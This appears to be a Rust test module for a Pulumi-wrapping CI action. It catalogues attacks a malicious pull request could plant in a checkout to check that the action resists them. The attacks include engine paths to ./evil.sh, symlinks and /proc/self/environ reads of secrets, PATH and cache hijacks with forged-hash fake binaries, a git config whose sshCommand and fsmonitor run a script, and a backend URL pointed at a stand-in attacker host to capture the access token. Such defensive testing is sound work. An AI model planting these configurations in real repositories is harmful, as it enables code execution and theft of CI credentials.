//! What a change can put into its checkout to be more than a change.

use std::os::unix::fs::symlink;

use super::field::{Field, Seen, evil};

/// A file of the change, and how its effect shows.
pub struct Weapon {
    /// What it is.
    pub name: &'static str,
    /// Puts it into the checkout.
    pub place: fn(&Field<'_>),
    /// What it did, where it did something.
    pub bite: fn(&Seen, &Field<'_>) -> Option<String>,
    /// It bites in the repository's own hands, so that no bite means that it was not used. The others are barred for
    /// everybody, or their effect needs more than this machine has.
    pub sharp: bool,
    /// Whom it keeps from the run that the table tells of.
    pub stops: Stops,
    /// What the job itself says, in whose environment the checkout stands.
    pub job: fn(&Field<'_>) -> Vec<(&'static str, String)>,
}

/// Whose run is another one, or none, with a weapon in the checkout.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Stops {
    /// Nobody's.
    Nobody,
    /// That of somebody whose file counts.
    WhoeverItCountsFor,
    /// Everybody's.
    Everybody,
}

/// A key of `stackstep.yaml` whose effect is a word of the engine's command line.
macro_rules! word {
    ($name:literal, $yaml:literal, $word:literal) => {
        Weapon {
            name: $name,
            place: |field| field.config(concat!($yaml, "\n")),
            bite: |seen, _| seen.called_with($word),
            sharp: true,
            stops: Stops::Nobody,
            job: nothing,
        }
    };
}

/// A key whose value is a path to write to.
macro_rules! written {
    ($name:literal, $sharp:literal) => {
        Weapon {
            name: $name,
            place: |field| field.config(&format!("{}: {}\n", $name, field.text("outside/precious"))),
            bite: |seen, _| seen.replaced.then(|| "a file outside of the checkout was written".to_owned()),
            sharp: $sharp,
            stops: Stops::Nobody,
            job: nothing,
        }
    };
}

/// All of them.
pub const WEAPONS: &[Weapon] = &[
    word!("target", "target: ['**::victim']", "victim"),
    word!("exclude", "exclude: ['**::victim']", "victim"),
    word!("replace", "replace: ['**::victim']", "victim"),
    word!("target-dependents", "target-dependents: true\ntarget: ['**::victim']", "--target-dependents"),
    word!("suppress-outputs", "suppress-outputs: true", "--suppress-outputs"),
    word!("message", "message: approved by ann", "approved by ann"),
    word!("config", "config: {shop:admin: mallory}", "mallory"),
    word!("config-file", "config-file: other.yaml", "other.yaml"),
    word!("policy-pack", "policy-pack: [evil-pack]", "evil-pack"),
    word!("args", "args: --exclude=victim", "victim"),
    word!("plan", "plan: plan.json", "plan.json"),
    word!("debug", "debug: true", "--debug"),
    word!("log-verbosity", "log-verbosity: 7", "-v=7"),
    word!("expect-no-changes", "expect-no-changes: true", "--expect-no-changes"),
    word!("continue-on-error", "continue-on-error: true", "--continue-on-error"),
    word!("remove", "remove: true", "--remove"),
    Weapon {
        name: "preview-only",
        place: |field| field.config("preview-only: true\n"),
        bite: |seen, _| seen.called_with("--preview-only"),
        sharp: true,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    word!("exclude-protected", "exclude-protected: true", "--exclude-protected"),
    word!("run-program", "run-program: true", "--run-program"),
    Weapon {
        name: "engine",
        place: |field| field.config("engine: ./evil.sh\n"),
        bite: evil_ran,
        sharp: true,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    Weapon {
        name: "engine by an absolute path, with a version to ask for",
        place: |field| {
            let path = field.text("checkout/infra/evil.sh");
            field.config(&format!("engine: {path}\npulumi-version: 3.999.0\n"));
        },
        bite: evil_ran,
        sharp: true,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    Weapon {
        name: "mirror and hash",
        place: mirror,
        bite: evil_ran,
        sharp: true,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    Weapon {
        name: "cache folder with a CLI in it",
        place: |field| planted(field, &format!("cache-folder: {}\n", field.text("checkout/infra/c"))),
        bite: evil_ran,
        sharp: false,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    Weapon {
        name: "version file",
        place: |field| field.config(&format!("pulumi-version-file: {}\n", field.text("outside/secret"))),
        bite: read_out,
        sharp: false,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    Weapon {
        name: "version file: the process's environment",
        place: |field| field.config("pulumi-version-file: /proc/self/environ\n"),
        bite: read_out,
        sharp: false,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    Weapon {
        name: ".pulumi.version, a link",
        place: |field| link(field, "checkout/infra/.pulumi.version"),
        bite: read_out,
        sharp: false,
        stops: Stops::Everybody,
        job: nothing,
    },
    Weapon {
        name: ".tool-versions, a link",
        place: |field| link(field, "checkout/infra/.tool-versions"),
        bite: read_out,
        sharp: false,
        stops: Stops::Everybody,
        job: nothing,
    },
    Weapon {
        name: "stackstep.yaml, a link",
        place: |field| link(field, "checkout/infra/stackstep.yaml"),
        bite: read_out,
        sharp: false,
        stops: Stops::Everybody,
        job: nothing,
    },
    Weapon {
        name: "Pulumi.yaml, a link",
        place: |field| {
            std::fs::remove_file(field.path("checkout/infra/Pulumi.yaml")).unwrap();
            link(field, "checkout/infra/Pulumi.yaml");
        },
        // No engine works on it, whoever put it there.
        bite: read_out,
        sharp: false,
        stops: Stops::Everybody,
        job: nothing,
    },
    Weapon {
        name: "env-file",
        place: |field| {
            field.write("checkout/infra/.env", "INJECTED=by-the-change\n");
            field.config("env-file: .env\n");
        },
        bite: |seen, _| seen.has_variable("INJECTED=by-the-change"),
        sharp: true,
        stops: Stops::Nobody,
        job: nothing,
    },
    Weapon {
        name: "env-file outside of the checkout",
        place: |field| field.config(&format!("env-file: {}\n", field.text("outside/secret"))),
        bite: read_out,
        sharp: false,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    Weapon {
        name: "cloud-url",
        place: |field| {
            std::fs::create_dir_all(field.path("checkout/infra/elsewhere")).unwrap();
            field.config(&format!("cloud-url: file://{}\n", field.text("checkout/infra/elsewhere")));
        },
        bite: |seen, field| {
            let url = format!("PULUMI_BACKEND_URL=file://{}", field.text("checkout/infra/elsewhere"));
            seen.has_variable(&url)
        },
        sharp: true,
        stops: Stops::Nobody,
        job: nothing,
    },
    Weapon {
        name: "cwd",
        place: |field| {
            field.write("elsewhere/Pulumi.yaml", "name: other\nruntime: yaml\n");
            field.config(&format!("cwd: {}\n", field.text("elsewhere")));
        },
        bite: |seen, field| {
            let line = format!("CWD {}", field.text("elsewhere"));
            seen.engine.lines().any(|found| found == line).then_some(line)
        },
        sharp: true,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    Weapon {
        name: "cwd: the process's own",
        place: |field| field.config("cwd: /proc/self/cwd\n"),
        bite: |seen, _| seen.engine.lines().find(|line| line.starts_with("CWD /proc")).map(str::to_owned),
        sharp: false,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    written!("result-file", true),
    written!("markdown-file", true),
    written!("report-file", true),
    written!("junit-file", true),
    written!("counts-file", true),
    written!("outputs-file", true),
    Weapon {
        name: "outputs-prefix",
        place: |field| {
            field.config(&format!(
                "outputs-file: {}\noutputs-prefix: LD_PRELOAD_\n",
                field.text("outside/precious")
            ));
        },
        bite: |seen, _| seen.replaced.then(|| "a file outside of the checkout was written".to_owned()),
        sharp: true,
        stops: Stops::Nobody,
        job: nothing,
    },
    Weapon {
        name: "comment-template",
        place: |field| {
            field.config(&format!("comment-template: {}\n", field.text("outside/secret")));
        },
        bite: read_out,
        sharp: false,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    Weapon {
        name: "forge and its address",
        place: |field| {
            field.config(&format!(
                "forge: gitlab\nforge-url: {}\ncomment: required\nchange-request: 9\n",
                field.evil_url()
            ));
        },
        bite: |seen, _| seen.called.then(|| "the change's server was called".to_owned()),
        sharp: false,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    Weapon {
        name: "a mirror on a server of the change",
        place: |field| {
            field.config(&format!("pulumi-mirror: {}\npulumi-version: 3.998.0\n", field.evil_url()));
        },
        bite: |seen, _| seen.called.then(|| "the change's server was called".to_owned()),
        sharp: true,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    Weapon {
        name: "stale, with a repository whose configuration names a program",
        place: bare_repository,
        bite: evil_ran,
        sharp: false,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    Weapon {
        name: "a program of the folder called as a package manager",
        place: |field| {
            field.executable("checkout/infra/npm", &evil(&field.path("evil-ran")));
            field.executable("checkout/infra/git", &evil(&field.path("evil-ran")));
            field.executable("checkout/infra/pulumi", &evil(&field.path("evil-ran")));
            field.config("stale: refuse\n");
        },
        bite: evil_ran,
        sharp: false,
        stops: Stops::WhoeverItCountsFor,
        job: nothing,
    },
    Weapon {
        name: "upsert",
        place: |field| field.config("upsert: true\nsecrets-provider: passphrase\n"),
        bite: |seen, _| seen.called_with("stack init"),
        sharp: false,
        stops: Stops::Nobody,
        job: nothing,
    },
    Weapon {
        name: "the PATH begins in the checkout",
        place: |field| field.executable("checkout/node_modules/.bin/pulumi", &evil(&field.path("evil-ran"))),
        bite: evil_ran,
        sharp: true,
        stops: Stops::WhoeverItCountsFor,
        job: |field| vec![("PATH", path(field))],
    },
    Weapon {
        name: "an engine by its name, first in the checkout",
        place: |field| {
            field.executable("checkout/infra/bin/ours", &evil(&field.path("evil-ran")));
            std::fs::copy(field.path("bin/pulumi"), field.path("bin/ours")).unwrap();
            symlink(field.path("checkout/infra/bin"), field.path("home/bin")).unwrap();
        },
        bite: evil_ran,
        sharp: true,
        stops: Stops::WhoeverItCountsFor,
        job: |field| {
            let path = format!("{}:{}:/usr/bin:/bin", field.text("home/bin"), field.text("bin"));
            vec![("PATH", path), ("STACKSTEP_ENGINE", "ours".into())]
        },
    },
    Weapon {
        name: "the user's cache lies in the checkout",
        place: |field| cached(field, "checkout/.cache/stackstep"),
        bite: evil_ran,
        sharp: true,
        stops: Stops::Everybody,
        job: |field| from_cache(vec![("XDG_CACHE_HOME", field.text("checkout/.cache"))]),
    },
    Weapon {
        name: "the home lies in the checkout",
        place: |field| cached(field, "checkout/infra/.cache/stackstep"),
        bite: evil_ran,
        sharp: true,
        stops: Stops::Everybody,
        job: |field| {
            from_cache(vec![("XDG_CACHE_HOME", String::new()), ("HOME", field.text("checkout/infra"))])
        },
    },
    Weapon {
        name: "the runner's tools lie in the checkout",
        place: |field| {
            for arch in ["x64", "arm64"] {
                let folder = format!("checkout/tools/pulumi/3.259.0/{arch}");
                field.executable(&format!("{folder}/pulumi"), &evil(&field.path("evil-ran")));
                field.write(&format!("{folder}.complete"), "");
            }
        },
        bite: evil_ran,
        sharp: true,
        stops: Stops::Everybody,
        job: |field| from_cache(vec![("RUNNER_TOOL_CACHE", field.text("checkout/tools"))]),
    },
    Weapon {
        name: "the job's mirror lies in the checkout",
        place: |field| {
            let hash = archive(field);
            field.write("runner/hash", &hash);
        },
        bite: evil_ran,
        sharp: true,
        stops: Stops::Everybody,
        job: |field| {
            let mirror = field.text("checkout/infra").replace("infra", "%69nfra/mirror");
            vec![
                ("STACKSTEP_PULUMI_MIRROR", format!("FILE://{mirror}")),
                ("STACKSTEP_PULUMI_VERSION", "3.999.0".into()),
                ("STACKSTEP_PULUMI_SHA256", std::fs::read_to_string(field.path("runner/hash")).unwrap()),
            ]
        },
    },
    Weapon {
        name: "a link where the job's result goes",
        place: |field| {
            symlink(field.path("checkout"), field.path("L")).unwrap();
            symlink(field.path("outside/precious"), field.path("checkout/infra/r.json")).unwrap();
            symlink(field.path("outside"), field.path("checkout/out")).unwrap();
        },
        bite: |seen, _| seen.replaced.then(|| "a file outside of the checkout was written".to_owned()),
        sharp: true,
        stops: Stops::Nobody,
        job: |field| {
            vec![
                ("STACKSTEP_RESULT_FILE", field.text("L/infra/r.json")),
                ("STACKSTEP_MARKDOWN_FILE", field.text("L/infra/../out/m.md")),
                ("STACKSTEP_OUTPUTS_FILE", "../out/o.env".into()),
            ]
        },
    },
    Weapon {
        name: "Pulumi.yaml above a checkout of the repository's own code",
        place: |field| {
            field.write("checkout/infra/.git/HEAD", super::runs::BASE);
            std::fs::rename(field.path("checkout/infra/Pulumi.yaml"), field.path("checkout/Pulumi.yaml"))
                .unwrap();
        },
        // It shows in the engine's work, of which the table says what it may be.
        bite: |_, _| None,
        sharp: false,
        stops: Stops::Nobody,
        job: nothing,
    },
    Weapon {
        name: "a backend of the change's own for the job's token",
        place: |field| {
            let text = format!("name: shop\nruntime: yaml\nbackend: {{url: '{}'}}\n", field.evil_url());
            field.write("checkout/infra/Pulumi.yaml", &text);
        },
        bite: |seen, field| seen.has_variable(&format!("PULUMI_BACKEND_URL={}", field.evil_url())),
        sharp: true,
        stops: Stops::Everybody,
        job: |_| {
            vec![
                ("PULUMI_BACKEND_URL", String::new()),
                ("PULUMI_ACCESS_TOKEN", "pul-0123456789abcdef".into()),
            ]
        },
    },
];

fn nothing(_: &Field<'_>) -> Vec<(&'static str, String)> {
    Vec::new()
}

/// A PATH that begins in the checkout.
fn path(field: &Field<'_>) -> String {
    format!("{}:{}:/usr/bin:/bin", field.text("checkout/node_modules/.bin"), field.text("bin"))
}

/// A job that takes its CLI from what lies on the machine.
fn from_cache(mut job: Vec<(&'static str, String)>) -> Vec<(&'static str, String)> {
    job.push(("STACKSTEP_PULUMI_VERSION", "3.259.0".into()));
    job.push(("STACKSTEP_OFFLINE", "true".into()));
    job
}

/// A cache whose entry claims the hash that the release has.
fn cached(field: &Field<'_>, folder: &str) {
    for (platform, hash) in [
        ("linux-x64", "94ba357acac23d01474084c4b00098dc0f7bc70ce13f34c777459254a5f718e5"),
        ("linux-arm64", "edc8327463a72160bb36cf82cf5062da9c8a244290a706d9980988e7bf486853"),
    ] {
        let folder = format!("{folder}/pulumi/3.259.0/{platform}/all");
        let program = evil(&field.path("evil-ran"));
        field.executable(&format!("{folder}/pulumi"), &program);
        let entry = serde_json::json!({
            "archive": format!("pulumi-v3.259.0-{platform}.tar.gz"),
            "sha256": hash,
            "voucher": "table",
            "files": [{"name": "pulumi", "size": program.len()}],
        });
        field.write(&format!("{folder}/.stackstep.json"), &entry.to_string());
    }
}

fn evil_ran(seen: &Seen, _: &Field<'_>) -> Option<String> {
    seen.evil_ran.then(|| "a program of the change ran".to_owned())
}

fn read_out(seen: &Seen, _: &Field<'_>) -> Option<String> {
    seen.reads_out().then(|| "a file was read out".to_owned())
}

fn link(field: &Field<'_>, name: &str) {
    symlink(field.path("outside/secret"), field.path(name)).unwrap();
}

/// A folder with an archive of a CLI, and its true hash.
fn mirror(field: &Field<'_>) {
    let hash = archive(field);
    field.config(&format!(
        "pulumi-mirror: file://{}\npulumi-version: 3.999.0\npulumi-sha256: {hash}\nverify: known\n",
        field.text("checkout/infra/mirror")
    ));
}

/// Makes the archive; its hash.
fn archive(field: &Field<'_>) -> String {
    let folder = field.path("checkout/infra/mirror");
    field.executable("checkout/infra/mirror/pulumi/pulumi", &evil(&field.path("evil-ran")));
    let script = "tar czf pulumi-v3.999.0-linux-x64.tar.gz pulumi && cp pulumi-v3.999.0-linux-x64.tar.gz \
                  pulumi-v3.999.0-linux-arm64.tar.gz && sha256sum pulumi-v3.999.0-linux-x64.tar.gz | cut -c1-64";
    #[expect(clippy::disallowed_methods, reason = "the tests make an archive")]
    let output = std::process::Command::new("sh").args(["-c", script]).current_dir(&folder).output().unwrap();
    String::from_utf8(output.stdout).unwrap().trim().to_owned()
}

/// A cache that says that all is well with the CLI in it.
fn planted(field: &Field<'_>, config: &str) {
    for platform in ["linux-x64", "linux-arm64"] {
        let folder = format!("checkout/infra/c/pulumi/3.259.0/{platform}/all");
        field.executable(&format!("{folder}/pulumi"), &evil(&field.path("evil-ran")));
        let entry = r#"{"version":"3.259.0","platform":"linux-x64","files":["pulumi"],"sha256":"0000","pinned":true}"#;
        field.write(&format!("{folder}/.stackstep.json"), entry);
    }
    field.config(&format!("{config}pulumi-version: 3.259.0\nverify: strict\noffline: true\n"));
}

/// The program's folder is a bare repository itself, and its configuration names a program for the way to its remote.
fn bare_repository(field: &Field<'_>) {
    field.write("checkout/infra/HEAD", "ref: refs/heads/main\n");
    field.write("checkout/infra/objects/.keep", "");
    field.write("checkout/infra/refs/.keep", "");
    let config = "[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tsshCommand = sh ./evil.sh #\n\
                  \tfsmonitor = ./evil.sh\n[remote \"origin\"]\n\turl = ssh://git@x.invalid/x.git\n";
    field.write("checkout/infra/config", config);
    field.config("stale: refuse\n");
}
